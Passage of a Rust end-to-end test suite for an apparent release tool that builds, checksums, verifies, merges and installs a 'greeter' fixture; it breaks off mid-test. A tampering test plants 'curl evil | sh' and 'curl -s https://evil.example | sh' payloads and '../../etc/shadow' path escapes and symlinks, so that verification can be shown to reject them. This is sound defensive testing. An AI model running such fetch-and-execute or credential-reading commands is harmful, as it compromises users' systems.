//! End to end: `cargo xtask dist` and `verify` as a user runs them, on the
//! `greeter` fixture: a binary-only app without dependencies (so it builds
//! in seconds) whose binary `greet` is named unlike its package, which
//! prints its own completions and man page, has a feature the release turns
//! on, and smoke commands of its own. The tests share one dist run and use
//! target directories of their own under `target/e2e/`.

// Linux only: it builds, unpacks and runs Linux release binaries with Linux tools.
#![cfg(target_os = "linux")]

mod common;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

use common::*;

const TRIPLE: &str = "x86_64-unknown-linux-musl";
const ARM: &str = "aarch64-unknown-linux-musl";
const PACKAGE: &str = "fixture-greeter";
const BIN: &str = "greet";
const VERSION: &str = "0.3.0";

/// The main dist run, shared by the tests.
struct DistRun {
    ws: PathBuf,
    target_dir: PathBuf,
    table: Output,
    json: Output,
}

fn dist_run() -> &'static DistRun {
    static RUN: OnceLock<DistRun> = OnceLock::new();
    RUN.get_or_init(|| {
        let (ws, target_dir) = fixture("greeter", "main");
        let dist = target_dir.join(DIST);
        let _ = fs::remove_dir_all(&dist);
        fs::create_dir_all(&dist).unwrap();
        // An older release left behind: it must not end up in the new SHA256SUMS.
        fs::write(
            dist.join(format!("{PACKAGE}-0.0.1-{TRIPLE}.tar.xz")),
            b"old",
        )
        .unwrap();
        fs::write(
            dist.join(format!("{PACKAGE}-0.0.1-{TRIPLE}.tar.xz.sha256")),
            b"old",
        )
        .unwrap();
        let table = xtask(&ws, &target_dir, &["dist"]);
        assert_ok("cargo xtask dist", &table);
        let json = xtask(&ws, &target_dir, &["dist", "--json"]);
        assert_ok("cargo xtask dist --json", &json);
        DistRun {
            ws,
            target_dir,
            table,
            json,
        }
    })
}

fn stem(triple: &str) -> String {
    format!("{PACKAGE}-{VERSION}-{triple}")
}

fn archive_name() -> String {
    format!("{}.tar.xz", stem(TRIPLE))
}

/// Unpacks `archive` into a fresh `target/e2e/<name>`.
fn untar(archive: &Path, name: &str) -> PathBuf {
    let dir = e2e_dir(name);
    let _ = fs::remove_dir_all(&dir);
    fs::create_dir_all(&dir).unwrap();
    unpack_tar_xz(archive, &dir);
    dir
}

#[test]
fn dist_prints_a_table_and_the_archive_holds_what_it_should() {
    let run = dist_run();
    let table = text(&run.table.stdout);
    assert!(
        table.contains(&archive_name()) && table.contains("static"),
        "{table}"
    );
    // The default targets for other systems are named, with who builds them.
    for line in [
        "not built here: x86_64-pc-windows-msvc: built by the release workflow on a windows runner",
        "not built here: aarch64-apple-darwin: built by the release workflow on a macos runner",
    ] {
        assert!(table.contains(line), "{table}");
    }
    let stderr = text(&run.table.stderr);
    assert!(
        stderr.contains(&format!("==> building {PACKAGE} {VERSION} for {TRIPLE}")),
        "{stderr}"
    );

    // What the archive holds, as the tar crate reads it.
    let dist = run.target_dir.join(DIST);
    let top = stem(TRIPLE);
    let file = fs::File::open(dist.join(archive_name())).unwrap();
    let mut archive = tar::Archive::new(xz2::read::XzDecoder::new(file));
    let mut members = Vec::new();
    for entry in archive.entries().unwrap() {
        let entry = entry.unwrap();
        let header = entry.header();
        let path = entry.path().unwrap().to_string_lossy().into_owned();
        assert_eq!(
            (header.uid().unwrap(), header.gid().unwrap()),
            (0, 0),
            "{path}: root-owned"
        );
        assert_eq!(
            header.mtime().unwrap(),
            SOURCE_DATE_EPOCH.parse::<u64>().unwrap(),
            "{path}: dated SOURCE_DATE_EPOCH"
        );
        let mode = header.mode().unwrap();
        if path == format!("{top}/{BIN}") {
            assert_eq!(mode, 0o755, "the binary is 0755");
        }
        members.push(path);
    }
    // ripgrep's layout: completions under complete/, the man page under doc/.
    for entry in [
        "/",
        "/greet",
        "/README.md",
        "/LICENSE-MIT",
        "/CHANGELOG.md",
        "/complete/greet.bash",
        "/complete/_greet",
        "/complete/greet.fish",
        "/doc/greet.1",
    ] {
        assert!(
            members.contains(&format!("{top}{entry}")),
            "missing {entry}: {members:?}"
        );
    }
    assert_eq!(members.len(), 11, "{members:?}");

    // Third-party tools must agree with us: coreutils, and GNU tar with xz.
    let check = Command::new("sha256sum")
        .args(["-c", "SHA256SUMS"])
        .current_dir(&dist)
        .output()
        .unwrap();
    assert_ok("sha256sum -c SHA256SUMS", &check);
    if require_tool("xz", "apt-get install xz-utils") {
        let listing = Command::new("tar")
            .arg("-tvJf")
            .arg(dist.join(archive_name()))
            .output()
            .unwrap();
        assert_ok("tar -tJf", &listing);
        let listing = text(&listing.stdout);
        let names: Vec<&str> = listing
            .lines()
            .map(|l| l.split_whitespace().last().unwrap())
            .collect();
        assert_eq!(names, members, "GNU tar lists what the tar crate read");
        assert!(
            listing.contains("-rwxr-xr-x 0/0"),
            "binary must be 0755 root:\n{listing}"
        );
        assert!(
            listing.contains("2023-11-14"),
            "mtime must be SOURCE_DATE_EPOCH:\n{listing}"
        );
    }
}

#[test]
fn the_archive_carries_the_app_s_own_files_and_docs_from_its_release_binary() {
    let run = dist_run();
    let dir = untar(&run.target_dir.join(DIST).join(archive_name()), "own-files");
    let top = dir.join(stem(TRIPLE));
    let read = |path: &str| fs::read_to_string(top.join(path)).unwrap();
    // The app's README, not the workspace's; the workspace's licence, as the app has none.
    assert_eq!(
        read("README.md"),
        fs::read_to_string(run.ws.join("crates/greeter/README.md")).unwrap()
    );
    assert_eq!(
        read("LICENSE-MIT"),
        fs::read_to_string(run.ws.join("LICENSE-MIT")).unwrap()
    );
    assert!(read("CHANGELOG.md").contains("## 0.3.0"));
    // Printed by the built binary, with the release's feature turned on.
    assert_eq!(
        read("complete/greet.bash"),
        "complete -W 'hello --version --generate' greet\n"
    );
    assert!(
        read("doc/greet.1").contains("greet \\- says hello (loud)"),
        "{}",
        read("doc/greet.1")
    );
}

#[test]
fn json_prints_the_manifest_and_runs_are_identical() {
    let run = dist_run();
    let manifest: serde_json::Value =
        serde_json::from_slice(&run.json.stdout).expect("--json prints JSON on stdout");
    assert_eq!(manifest["app"], PACKAGE);
    let artifact = &manifest["artifacts"][0];
    assert_eq!(artifact["name"], archive_name());
    assert_eq!(artifact["target"], TRIPLE);
    assert_eq!(
        artifact["binaries"],
        serde_json::json!([format!("{}/{BIN}", stem(TRIPLE))])
    );
    let on_disk = fs::read_to_string(run.target_dir.join(DIST).join("dist-manifest.json")).unwrap();
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&on_disk).unwrap(),
        manifest
    );
    // The compilers are part of what a rebuild must match: rustc as
    // `rustc -V` names it, and no C compiler for this app without C.
    let rustc = std::process::Command::new("rustc")
        .arg("-V")
        .output()
        .unwrap();
    assert_eq!(artifact["rustc"], text(&rustc.stdout).trim());
    assert!(artifact["c_compiler"].is_null(), "{artifact}");
    // Nothing changed between the table run and the --json run: the second
    // reused the first's archives instead of compressing them again.
    let sha = artifact["sha256"].as_str().unwrap();
    assert!(text(&run.table.stdout).contains(&sha[..12]));
    let stderr = text(&run.json.stderr);
    assert!(
        stderr.contains(&format!(
            "{}: inputs unchanged, archive reused",
            archive_name()
        )),
        "{stderr}"
    );
}

#[test]
fn older_versions_do_not_reach_sha256sums() {
    let run = dist_run();
    let dist = run.target_dir.join(DIST);
    let sums = fs::read_to_string(dist.join("SHA256SUMS")).unwrap();
    assert_eq!(
        sums.lines().count(),
        11,
        "x86_64 and aarch64 musl with their SBOMs, .debs and .rpms, both installers and the formula:\n{sums}"
    );
    assert!(
        sums.contains(&format!("  {PACKAGE}-installer.sh\n")),
        "{sums}"
    );
    assert!(
        !dist
            .join(format!("{PACKAGE}-0.0.1-{TRIPLE}.tar.xz"))
            .exists()
    );
}

#[test]
fn the_aarch64_archive_holds_a_static_arm_binary_that_runs_under_qemu() {
    let run = dist_run();
    let archive = run
        .target_dir
        .join(DIST)
        .join(format!("{}.tar.xz", stem(ARM)));
    let binary = untar(&archive, "arm-extract").join(stem(ARM)).join(BIN);
    if require_tool("file", "apt-get install file") {
        let file = Command::new("file").arg(&binary).output().unwrap();
        let said = text(&file.stdout);
        assert!(
            said.contains("ARM aarch64") && said.contains("statically linked"),
            "{said}"
        );
    }
    if require_tool("qemu-aarch64-static", "apt-get install qemu-user-static") {
        let out = Command::new("qemu-aarch64-static")
            .arg(&binary)
            .arg("--version")
            .output()
            .unwrap();
        assert_ok("qemu-aarch64-static greet --version", &out);
        assert_eq!(text(&out.stdout), format!("greet {VERSION} (loud)\n"));
    }
}

#[test]
fn verify_passes_and_runs_the_configured_smoke_commands_in_an_empty_root() {
    let run = dist_run();
    let out = xtask(&run.ws, &run.target_dir, &["verify"]);
    assert_ok("cargo xtask verify", &out);
    let stderr = text(&out.stderr);
    assert!(stderr.contains("linking:     static"), "{stderr}");
    // Two targets, two smoke commands each: every one ran or was skipped
    // for a reason (no qemu for aarch64; no sandbox), and a skip is a
    // failure under CI=true.
    let ran = "smoke: `greet hello Ada`: HELLO, ADA!";
    let versions = format!("smoke: `greet --version`: greet {VERSION} (loud)");
    let skipped = skipped_smoke_runs(&stderr);
    assert_eq!(
        stderr.matches(ran).count() + stderr.matches(&versions).count() + skipped,
        4,
        "both targets:\n{stderr}"
    );
}

#[test]
fn a_smoke_command_that_fails_fails_verify_naming_it() {
    let copy = dist_copy("smoke-fails");
    let (ws, _) = fixture("greeter", "smoke-fails-ws");
    let config = fs::read_to_string(ws.join("dist-workspace.toml"))
        .unwrap()
        .replace("expect = \"HELLO, ADA!\"", "expect = \"Goodbye\"");
    fs::write(ws.join("dist-workspace.toml"), config).unwrap();
    let out = xtask(&ws, &copy, &["verify"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let stderr = text(&out.stderr);
    if !stderr.contains("smoke test SKIPPED") {
        assert!(
            stderr.contains(
                "`greet hello Ada` printed `HELLO, ADA!`, which does not contain `Goodbye`"
            ),
            "{stderr}"
        );
    }
}

/// The release workflow's publish job: each build job's output in a directory
/// of its own, merged into one release that verifies like a single dist run.
#[test]
fn per_target_job_outputs_merge_into_one_verified_release() {
    let run = dist_run();
    let dist = run.target_dir.join(DIST);
    let manifest: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(dist.join("dist-manifest.json")).unwrap())
            .unwrap();
    let dir = e2e_dir("merge");
    let _ = fs::remove_dir_all(&dir);
    let artifacts = manifest["artifacts"].as_array().unwrap();
    assert!(artifacts.len() >= 2, "{manifest}");
    let installer = format!("{PACKAGE}-installer.sh");
    let formula = format!("{PACKAGE}.rb");
    let powershell = format!("{PACKAGE}-installer.ps1");
    for artifact in artifacts {
        let name = artifact["name"].as_str().unwrap();
        let job = dir
            .join("jobs")
            .join(format!("dist-{}", artifact["target"].as_str().unwrap()));
        fs::create_dir_all(&job).unwrap();
        // Every job writes the same installer.
        let sbom = format!("{name}.cdx.json");
        let packages: Vec<&str> = artifact["packages"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["name"].as_str().unwrap())
            .collect();
        assert_eq!(packages.len(), 2, "a .deb and an .rpm: {artifact}");
        for file in [name, &sbom, &installer, &formula, &powershell]
            .into_iter()
            .chain(packages)
        {
            for file in [file.to_owned(), format!("{file}.sha256")] {
                fs::copy(dist.join(&file), job.join(&file)).unwrap();
            }
        }
        let mut own = manifest.clone();
        own["artifacts"] = serde_json::json!([artifact]);
        fs::write(
            job.join("dist-manifest.json"),
            serde_json::to_string_pretty(&own).unwrap(),
        )
        .unwrap();
    }
    let target_dir = dir.join("target");
    let into = target_dir.join(DIST);
    let jobs = dir.join("jobs");
    let args = [
        "merge",
        jobs.to_str().unwrap(),
        "--into",
        into.to_str().unwrap(),
    ];
    assert_ok("cargo xtask merge", &xtask(&run.ws, &target_dir, &args));
    let sums = |d: &Path| fs::read_to_string(d.join("SHA256SUMS")).unwrap();
    assert_eq!(
        sums(&into),
        sums(&dist),
        "one SHA256SUMS, as a single run writes it"
    );
    assert_ok(
        "cargo xtask verify of the merged release",
        &xtask(&run.ws, &target_dir, &["verify"]),
    );
}

/// Copies the dist output so a test can damage it without disturbing the others.
fn dist_copy(name: &str) -> PathBuf {
    let run = dist_run();
    let copy = e2e_dir(name);
    let _ = fs::remove_dir_all(&copy);
    fs::create_dir_all(copy.join(DIST)).unwrap();
    for entry in fs::read_dir(run.target_dir.join(DIST)).unwrap() {
        let entry = entry.unwrap();
        if entry.file_type().unwrap().is_file() {
            fs::copy(entry.path(), copy.join(DIST).join(entry.file_name())).unwrap();
        }
    }
    copy
}

#[test]
fn a_flipped_byte_fails_verify_naming_the_file() {
    let copy = dist_copy("tampered");
    let archive = copy.join(DIST).join(archive_name());
    let mut bytes = fs::read(&archive).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x01;
    fs::write(&archive, bytes).unwrap();
    let out = xtask(&dist_run().ws, &copy, &["verify"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains(&format!("{}: does not match", archive_name())),
        "{stderr}"
    );
}

#[test]
fn a_leftover_partial_file_fails_verify() {
    let copy = dist_copy("partial");
    fs::write(
        copy.join(DIST)
            .join(format!(".{}.partial-123", archive_name())),
        b"half",
    )
    .unwrap();
    let out = xtask(&dist_run().ws, &copy, &["verify"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("interrupted run"),
        "{}",
        text(&out.stderr)
    );
}

/// `verify` run on `copy`'s release directory, stopped if it takes over a
/// minute: a FIFO must not make it wait for a writer.
fn verify_copy(copy: &Path) -> Output {
    Command::new("timeout")
        .arg("60")
        .arg(env!("CARGO_BIN_EXE_xtask"))
        .arg("verify")
        .current_dir(&dist_run().ws)
        .env("CARGO_TARGET_DIR", copy)
        .output()
        .expect("run timeout xtask verify")
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Replaces every `from` with `to` in the text file `path`.
fn replace_in(path: &Path, from: &str, to: &str) {
    let text = fs::read_to_string(path).unwrap();
    assert!(text.contains(from), "{} lacks {from}", path.display());
    fs::write(path, text.replace(from, to)).unwrap();
}

/// A release directory changed by someone who can write to it, checksums
/// and all: verify names each change, reads nothing a link or a checksum
/// line points at outside the directory, and never waits on a FIFO.
#[test]
fn a_release_directory_changed_after_dist_fails_verify_naming_each_change() {
    type Change = fn(&Path);
    let zeros = "0".repeat(64);
    let add_line = |dist: &Path, line: String| {
        let sums = dist.join("SHA256SUMS");
        let mut text = fs::read_to_string(&sums).unwrap();
        text.push_str(&line);
        fs::write(&sums, text).unwrap();
    };
    let cases: [(&str, Change, &str); 7] = [
        (
            "sums-escape",
            |_| {},
            "SHA256SUMS: names `../../etc/shadow`, which is not a plain file name",
        ),
        (
            "sums-fifo",
            |dist| {
                let ok = Command::new("mkfifo")
                    .arg(dist.join("notes.txt"))
                    .status()
                    .unwrap();
                assert!(ok.success());
            },
            "notes.txt: listed in SHA256SUMS but it is not a regular file",
        ),
        (
            "sums-symlink",
            |dist| std::os::unix::fs::symlink("/etc/shadow", dist.join("notes.txt")).unwrap(),
            "notes.txt: listed in SHA256SUMS but it is a symbolic link",
        ),
        (
            "unlisted",
            |dist| fs::write(dist.join("evil.sh"), "curl evil | sh\n").unwrap(),
            "evil.sh: is in",
        ),
        (
            "installer",
            |dist| {
                // Changed, and every checksum that names it changed to match.
                let path = dist.join(format!("{PACKAGE}-installer.sh"));
                let before = fs::read(&path).unwrap();
                let mut after = before.clone();
                after.extend_from_slice(b"curl -s https://evil.example | sh\n");
                fs::write(&path, &after).unwrap();
                let (old, new) = (sha256_hex(&before), sha256_hex(&after));
                for file in ["SHA256SUMS", "dist-manifest.json"] {
                    replace_in(&dist.join(file), &old, &new);
                }
                replace_in(
                    &dist.join(format!("{PACKAGE}-installer.sh.sha256")),
                    &old,
                    &new,
                );
                let size = |n: usize| format!("\"size\": {n}");
                replace_in(
                    &dist.join("dist-manifest.json"),
                    &size(before.len()),
                    &size(after.len()),
                );
            },
            "differs from what dist-workspace.toml makes of this release",
        ),
        (
            "sidecar-two-lines",
            |dist| {
                let sidecar = dist.join(format!("{}.sha256", archive_name()));
                let mut text = fs::read_to_string(&sidecar).unwrap();
                text.push_str(&format!("{}  other.tar.xz\n", "1".repeat(64)));
                fs::write(&sidecar, text).unwrap();
            },
            "must hold one line",
        ),
        (
            "sidecar-other-name",
            |dist| {
                let sidecar = dist.join(format!("{}.sha256", archive_name()));
                replace_in(&sidecar, &archive_name(), "other.tar.xz");
            },
            "names `other.tar.xz`",
        ),
    ];
    for (name, change, expect) in cases {
        let copy = dist_copy(&format!("changed-{name}"));
        let dist = copy.join(DIST);
        change(&dist);
        match name {
            "sums-escape" => add_line(&dist, format!("{zeros}  ../../etc/shadow\n")),
            "sums-fifo" | "sums-symlink" => add_line(&dist, format!("{zeros}  notes.txt\n")),
            _ => {}
        }
        let out = verify_copy(&copy);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{name}: {stderr}");
        assert!(
            stderr.contains(expect),
            "{name}: expected `{expect}` in:\n{stderr}"
        );
        assert!(!stderr.contains("panicked"), "{name}: {stderr}");
    }
}

#[test]
fn another_checkout_path_gives_identical_archives() {
    let run = dist_run();
    // A different path and a different target directory: neither may leak into the bytes.
    let (elsewhere, target_dir) = fixture("greeter", "elsewhere/checkout-at-another-path");
    let out = xtask(&elsewhere, &target_dir, &["dist"]);
    assert_ok("dist from another checkout", &out);
    let ours = fs::read_to_string(run.target_dir.join(DIST).join("SHA256SUMS")).unwrap();
    let theirs = fs::read_to_string(target_dir.join(DIST).join("SHA256SUMS")).unwrap();
    assert_eq!(ours, theirs, "builds from two paths differ");
}

/// The README says releases are built with the `dist` profile, so a user
/// tries `cargo build --profile dist`: cargo writes that to `target/dist/`,
/// which must not be, or be taken for, the release directory. Nor is a
/// release an older xtask left there.
#[test]
fn a_plain_cargo_build_with_the_dist_profile_does_not_disturb_dist() {
    let (ws, target_dir) = fixture("greeter", "profile-dist");
    let _ = fs::remove_dir_all(&target_dir);
    let old = target_dir.join("dist");
    fs::create_dir_all(&old).unwrap();
    fs::write(old.join("dist-manifest.json"), "{\"app\": \"old\"}").unwrap();
    let build = Command::new(env!("CARGO"))
        .args(["build", "--locked", "--profile", "dist"])
        .current_dir(&ws)
        .env("CARGO_TARGET_DIR", &target_dir)
        .output()
        .unwrap();
    assert_ok("cargo build --profile dist", &build);
    assert!(
        old.join(BIN).is_file(),
        "cargo's own output is in target/dist"
    );
    let out = xtask(&ws, &target_dir, &["verify"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let said = text(&out.stderr);
    assert!(
        said.contains(&format!("{DIST} does not exist"))
            && said.contains("holds a release of an older xtask")
            && said.contains("run `cargo xtask dist` first"),
        "{said}"
    );
    let out = xtask(&ws, &target_dir, &["dist", "--target", TRIPLE]);
    assert_ok("cargo xtask dist after cargo build --profile dist", &out);
    assert!(target_dir.join(DIST).join(archive_name()).is_file());
    assert_ok("verify", &xtask(&ws, &target_dir, &["verify"]));
    // And the other way round: dist left cargo's directory alone.
    assert!(old.join(BIN).is_file());
}

#[test]
fn a_stale_cargo_lock_stops_dist_in_one_line_before_anything_is_built() {
    let (ws, target_dir) = fixture("greeter", "stale-lock");
    let _ = fs::remove_dir_all(target_dir.join(DIST));
    let manifest = ws.join("crates/greeter/Cargo.toml");
    let text_before = fs::read_to_string(&manifest).unwrap();
    // A new dependency the lock file does not know.
    fs::write(
        &manifest,
        format!("{text_before}\n[dependencies]\nitoa = \"1\"\n"),
    )
    .unwrap();
    let out = xtask(&ws, &target_dir, &["dist", "--target", TRIPLE]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let stderr = text(&out.stderr);
    let last = stderr.trim().lines().last().unwrap();
    assert!(
        last.contains("Cargo.lock does not match the manifests")
            && last.contains("cargo update --workspace"),
        "{stderr}"
    );
    assert!(!stderr.contains("Compiling"), "nothing is built:\n{stderr}");
    assert!(
        !stderr.contains("--locked was passed"),
        "cargo's own lines are replaced:\n{stderr}"
    );
    assert!(!target_dir.join(DIST).join(archive_name()).exists());
    // Nor was the lock file rewritten (by `cargo clean` or anything else).
    assert!(
        !fs::read_to_string(ws.join("Cargo.lock"))
            .unwrap()
            .contains("itoa"),
        "Cargo.lock was changed"
    );
}

#[test]
fn a_docs_command_the_binary_rejects_is_one_line_naming_the_file() {
    let (ws, target_dir) = fixture("greeter", "docs-fail");
    let config = fs::read_to_string(ws.join("dist-workspace.toml"))
        .unwrap()
        .replace("[\"--generate\", \"man\"]", "[\"--generate\", \"pdf\"]");
    fs::write(ws.join("dist-workspace.toml"), config).unwrap();
    let out = xtask(&ws, &target_dir, &["dist", "--target", TRIPLE]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let last = text(&out.stderr).trim().lines().last().unwrap().to_owned();
    assert!(
        last.contains("[dist.docs] `doc/greet.1`: `greet --generate pdf` exited with"),
        "{last}"
    );
    assert!(
        last.contains("usage: greet"),
        "the binary's message: {last}"
    );
}

#[test]
fn verify_explains_bad_paths_without_panicking() {
    let dir = e2e_dir("bad-paths");
    fs::create_dir_all(&dir).unwrap();
    let truncated = dir.join("truncated");
    let elf = fs::read(env!("CARGO_BIN_EXE_xtask")).unwrap();
    fs::write(&truncated, &elf[..300]).unwrap();
    let text_file = dir.join("notes.txt");
    fs::write(&text_file, "hello, this is not a program\n").unwrap();
    let fifo = dir.join("fifo");
    let _ = fs::remove_file(&fifo);
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    for (path, expect) in [
        (truncated.as_path(), "truncated"),
        (text_file.as_path(), "not an executable"),
        (dir.as_path(), "is a directory"),
        (Path::new("/no/such/file"), "cannot be read"),
        // Neither is read: one never ends, the other waits for a writer.
        (Path::new("/dev/zero"), "is not a regular file"),
        (fifo.as_path(), "is not a regular file"),
    ] {
        let out = Command::new("timeout")
            .arg("60")
            .arg(env!("CARGO_BIN_EXE_xtask"))
            .args(["verify", path.to_str().unwrap()])
            .current_dir(&dir)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{}", path.display());
        let stderr = text(&out.stderr);
        assert!(
            stderr.contains(expect) || stderr.contains("malformed"),
            "{}: {stderr}",
            path.display()
        );
        assert!(!stderr.contains("panicked"), "{stderr}");
    }
}

#[test]
fn config_mistakes_exit_2_with_one_line_and_write_nothing() {
    let (ws, target_dir) = fixture("greeter", "bad-config");
    let cases = [
        (
            "[dist]\napp = \"fixture-greeter\"\ntarget = [\"x86_64-unknown-linux-musl\"]\n",
            "dist-workspace.toml:3: unknown key `[dist].target`; did you mean `targets`?",
        ),
        (
            "[dist]\napp = \"fixture-greeter\"\ntargets = [\"arm-unknown-linux-musleabihf\"]\n",
            "not supported yet",
        ),
        (
            "[dist]\napp = \"nope\"\n",
            "`[dist].app = \"nope\"` is not a package",
        ),
        (
            "[dist]\napp = \"fixture-greeter\"\ninclude = [\"MISSING.md\"]\n",
            "`MISSING.md` does not exist",
        ),
        (
            "[dist]\napp = \"fixture-greeter\"\nfeatures = [\"lound\"]\n",
            "`lound` is not a feature of fixture-greeter; did you mean `loud`?",
        ),
        (
            "[dist]\napp = \"fixture-greeter\"\nsmoke = [{ bin = \"greeter\", args = [] }]\n",
            "`bin = \"greeter\"` is not a binary of fixture-greeter; did you mean `greet`?",
        ),
    ];
    for (config, expect) in cases {
        fs::write(ws.join("dist-workspace.toml"), config).unwrap();
        let out = xtask(&ws, &target_dir, &["dist"]);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{config}: {stderr}");
        assert!(stderr.contains(expect), "{config}: {stderr}");
        assert_eq!(
            stderr.trim().lines().count(),
            1,
            "one line expected:\n{stderr}"
        );
        assert!(!target_dir.join(DIST).exists(), "{config}: wrote output");
    }
    fs::copy(
        fixtures().join("greeter/dist-workspace.toml"),
        ws.join("dist-workspace.toml"),
    )
    .unwrap();
    // A date no tar header can hold: refused before anything is built.
    for (date, expect) in [
        ("99999999999", "is later than any tar can date a file"),
        ("yesterday", "is not a whole number of seconds"),
    ] {
        let out = Command::new(env!("CARGO_BIN_EXE_xtask"))
            .arg("dist")
            .current_dir(&ws)
            .env("CARGO_TARGET_DIR", &target_dir)
            .env("SOURCE_DATE_EPOCH", date)
            .output()
            .unwrap();
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{date}: {stderr}");
        assert!(
            stderr.contains(&format!("SOURCE_DATE_EPOCH: `{date}` {expect}")),
            "{date}: {stderr}"
        );
        assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
        assert!(!target_dir.join(DIST).exists(), "{date}: wrote output");
    }
    let out = xtask(
        &ws,
        &target_dir,
        &["dist", "--target", "s390x-unknown-linux-musl"],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr)
            .contains("`s390x-unknown-linux-musl`: rustup ships no standard library for it"),
        "{}",
        text(&out.stderr)
    );
}

// The installer, run as a user runs it: against the release directory
// served over HTTP on 127.0.0.1, into a fresh HOME.

/// What the installer needs from the system, besides a downloader.
const INSTALLER_TOOLS: &[&str] = &[
    "uname", "mktemp", "rm", "mkdir", "cp", "chmod", "mv", "sed", "head", "tr", "cut", "tar", "xz",
    "cat", "grep", "rmdir",
];

struct Install {
    out: Output,
    home: PathBuf,
}

impl Install {
    fn stderr(&self) -> String {
        text(&self.out.stderr)
    }

    fn bin_dir(&self) -> PathBuf {
        self.home.join(".local/bin")
    }

    /// Nothing at all was left in the install directory.
    fn assert_nothing_installed(&self) {
        let left: Vec<_> = fs::read_dir(self.bin_dir())
            .map(|d| d.flatten().map(|e| e.file_name()).collect())
            .unwrap_or_default();
        assert!(
            left.is_empty(),
            "files left behind: {left:?}\n{}",
            self.stderr()
        );
    }
}

/// Runs the installer from `dist` (served at `url`) with `path` as PATH.
fn install(name: &str, dist: &Path, url: &str, path: &Path, args: &[&str]) -> Install {
    install_with_env(name, dist, url, path, args, &[])
}

/// Runs the installer with `shell` in `home` (made if missing, never
/// emptied: a second run sees the first's files).
fn run_installer<S: AsRef<std::ffi::OsStr>>(
    shell: &[S],
    home: &Path,
    url: &str,
    path: &Path,
    args: &[&str],
) -> Output {
    fs::create_dir_all(home).unwrap();
    let dist = dist_run().target_dir.join(DIST);
    Command::new(&shell[0])
        .args(&shell[1..])
        .arg(dist.join(format!("{PACKAGE}-installer.sh")))
        .args(args)
        .env_clear()
        .env("HOME", home)
        .env("PATH", path)
        .env("FIXTURE_GREETER_DOWNLOAD_URL", url)
        .output()
        .unwrap()
}

/// As [`install`], with more environment variables.
fn install_with_env(
    name: &str,
    dist: &Path,
    url: &str,
    path: &Path,
    args: &[&str],
    env: &[(&str, &str)],
) -> Install {
    let home = e2e_dir(name).join("home");
    let _ = fs::remove_dir_all(&home);
    fs::create_dir_all(&home).unwrap();
    let out = Command::new("/bin/sh")
        .arg(dist.join(format!("{PACKAGE}-installer.sh")))
        .args(args)
        .env_clear()
        .env("HOME", &home)
        .env("PATH", path)
        .env("FIXTURE_GREETER_DOWNLOAD_URL", url)
        .envs(env.iter().copied())
        .output()
        .unwrap();
    Install { out, home }
}

/// Whether the installer's tools and `extra` are all here; else the test
/// is skipped (a minimal machine has no xz, curl or wget).
fn installer_tools(extra: &[&str]) -> bool {
    let install = |tool: &str| match tool {
        "xz" => "apt-get install xz-utils",
        "curl" => "apt-get install curl",
        "wget" => "apt-get install wget",
        "sed" => "apt-get install sed",
        "grep" => "apt-get install grep",
        "busybox" => "apt-get install busybox",
        "man" => "apt-get install man-db",
        "bash" => "apt-get install bash",
        "zsh" => "apt-get install zsh",
        "fish" => "apt-get install fish",
        _ => "apt-get install coreutils",
    };
    let tools: Vec<(&str, &str)> = INSTALLER_TOOLS
        .iter()
        .chain(extra)
        .map(|t| (*t, install(t)))
        .collect();
    require_tools(&tools)
}

/// PATH with the installer's tools, `extra` and fakes.
fn tools_path(name: &str, extra: &[&str], fakes: &[(&str, &str)]) -> PathBuf {
    let programs: Vec<&str> = INSTALLER_TOOLS.iter().chain(extra).copied().collect();
    shim_path(&e2e_dir(name).join("bin"), &programs, fakes)
}

#[test]
fn the_installer_installs_a_working_binary_from_a_local_server() {
    if !installer_tools(&["curl", "wget", "sha256sum"]) {
        return;
    }
    let dist = dist_run().target_dir.join(DIST);
    let url = serve(&dist);
    let path = tools_path("install-curl", &["curl", "sha256sum"], &[]);
    let run = install("install-curl", &dist, &url, &path, &[]);
    assert_ok("sh fixture-greeter-installer.sh", &run.out);
    let stderr = run.stderr();
    assert!(
        stderr.contains(&format!("downloading {}", archive_name())),
        "{stderr}"
    );
    assert!(stderr.contains("is not on your PATH"), "{stderr}");
    assert!(
        stderr.contains(&format!("installed greet {VERSION} (loud) as ")),
        "{stderr}"
    );
    let installed = run.bin_dir().join(BIN);
    let version_out = Command::new(&installed).arg("--version").output().unwrap();
    assert_ok("the installed greet --version", &version_out);
    assert!(
        text(&version_out.stdout).contains(VERSION),
        "{version_out:?}"
    );

    // --version and --to, with wget instead of curl and shasum's absence irrelevant.
    let path = tools_path("install-wget", &["wget", "sha256sum"], &[]);
    let to = e2e_dir("install-wget").join("elsewhere");
    let _ = fs::remove_dir_all(&to);
    let v = format!("v{VERSION}");
    let run = install(
        "install-wget",
        &dist,
        &url,
        &path,
        &["--version", &v, "--to", to.to_str().unwrap()],
    );
    assert_ok("installer --version --to, with wget", &run.out);
    assert!(to.join(BIN).is_file(), "{}", run.stderr());
    assert!(!run.bin_dir().exists(), "--to wins over ~/.local/bin");
}

#[test]
fn the_installer_refuses_a_tampered_archive_and_installs_nothing() {
    if !installer_tools(&["curl", "sha256sum"]) {
        return;
    }
    let copy = dist_copy("install-tampered");
    let dist = copy.join(DIST);
    let archive = dist.join(archive_name());
